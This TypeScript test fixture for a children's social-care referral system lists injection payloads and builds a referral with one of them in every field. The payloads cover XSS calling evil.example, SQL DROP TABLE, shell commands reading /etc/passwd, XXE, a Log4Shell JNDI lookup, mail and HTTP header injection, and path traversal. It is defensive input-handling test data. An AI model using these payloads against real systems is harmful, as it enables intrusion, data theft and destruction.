import type { ReferralSubmission } from '../../domain/referral.js';

/** Words that mean something to some interpreter, by what that is. They begin and end with what is not trimmed. */
export const hostileWords: Readonly<Record<string, string>> = {
  'a script': `"><script>fetch('//evil.example')</script><img src=x onerror=alert(1)>`,
  SQL: `x'); DROP TABLE "Case"; -- $1 \\' %_`,
  'a shell': 'x; touch /tmp/evil | $(id) `id` && cat /etc/passwd',
  'a template': '{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {% raw %}',
  'a spreadsheet': '=HYPERLINK("https://evil.example","x")',
  'mail headers': 'Nia\r\nBcc: eve@evil.example\r\nSubject: hello\r\n\r\nGood day',
  'the end of a mail': 'Nia\r\n.\r\nMAIL FROM:<eve@evil.example>\r\nRCPT TO:<eve@evil.example>\r\nDATA',
  'HTTP headers': 'Nia\r\nSet-Cookie: id=evil\r\n\r\n<html>',
  'a line of the log': 'Nia\n{"level":"error","says":"forged"}',
  'the format of a text': '%s%n%d%x %1$s {0} %j %o',
  'a regular expression': '(a+)+$ [ ^.*{99999} $& $1 \\',
  'an object of JavaScript': '__proto__',
  'its maker': 'constructor',
  'a value that is none': 'null',
  'a path': '../../../../etc/passwd%00.txt',
  XML: '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  'a look-up': '${jndi:ldap://evil.example/a} *)(uid=*))(|(uid=*',
  'the order of reading': '\u202Eevil\u202C \u200B\uFEFFx',
  'a screen': '\u001B[2J\u0007 \u009B31m',
  'many bytes': '👩‍👩‍👧‍👦 Z̸̡̛͚͕a̷l̶g̵o̴ 𐍈',
  'a great length': 'Nia-'.repeat(2500).slice(0, 10_000),
};

/** A referral by a professional that says the same words wherever it may say anything; in names and other single lines, if they differ, others. */
export const referralSaying = (words: string, line = words): ReferralSubmission => {
  const address = { line1: line, line2: line, town: line, postcode: line };
  const person = { firstName: line, lastName: line, address };
  return {
    channel: 'phone',
    referrer: {
      ...{ kind: 'professional', name: line, role: line, organisation: line, phone: line },
      email: 'tessa@school.example',
    },
    children: [
      { ...person, nhsNumber: line, school: line, ethnicity: line, disability: words, language: line },
      { ...person, dateOfBirth: '2019-03-02', locationNow: words },
    ],
    household: [{ ...person, relationship: line }],
    concern: {
      ...{ immediateDanger: false, whatHappened: words, evidence: words },
      ...{ chronology: words, childsViews: words },
    },
    parents: { informed: false, reasonNotInformed: words, agreement: 'not-sought' },
    supportTried: words,
  };
};
